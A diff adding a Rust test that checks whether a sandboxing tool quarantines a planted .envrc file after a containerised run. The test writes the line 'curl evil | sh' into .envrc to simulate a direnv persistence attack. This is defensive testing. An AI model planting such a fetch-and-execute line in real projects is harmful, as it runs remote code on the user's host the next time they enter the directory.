@@ -373,3 +373,52 @@ fn image_container_does_not_outlive_keepout() {
         );
     }
 }
+
+/// What the run leaves in the project that the host would run later (a new `.envrc`, which
+/// direnv runs at the next `cd`) is moved aside after the run, as natively (A4, A15): the same
+/// after-run check.
+#[test]
+fn image_what_the_run_leaves_for_the_host_is_moved_aside() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let Some(env) = engine_env(&fx) else { return };
+        let envrc = fx.project.join(".envrc");
+
+        let out = fx.outside("echo 'curl evil | sh' > .envrc && echo planted");
+        assert!(
+            out.has("planted") && envrc.exists(),
+            "[{r}] outside: .envrc is planted (proves the attack):{out}"
+        );
+        std::fs::remove_file(&envrc).unwrap();
+
+        let inn = in_image(
+            &fx,
+            &env,
+            &[],
+            "echo 'curl evil | sh' > .envrc && echo planted; true",
+        );
+        assert!(inn.success(), "[{r}] inside:{inn}");
+        assert!(
+            !envrc.exists(),
+            "[{r}] no .envrc under its name after the run:{inn}"
+        );
+        if r.is_root() {
+            // The container's nobody cannot write root's project at all.
+            assert!(!inn.has("planted"), "[{r}] not written:{inn}");
+            continue;
+        }
+        assert!(inn.has("planted"), "[{r}] the run wrote it:{inn}");
+        let aside = std::fs::read_dir(&fx.project)
+            .unwrap()
+            .filter_map(|e| e.ok())
+            .any(|e| {
+                e.file_name()
+                    .to_string_lossy()
+                    .starts_with(".envrc.keepout-quarantine-")
+            });
+        assert!(
+            aside && inn.stderr.contains(".envrc"),
+            "[{r}] moved aside, and said:{inn}"
+        );
+    }
+}
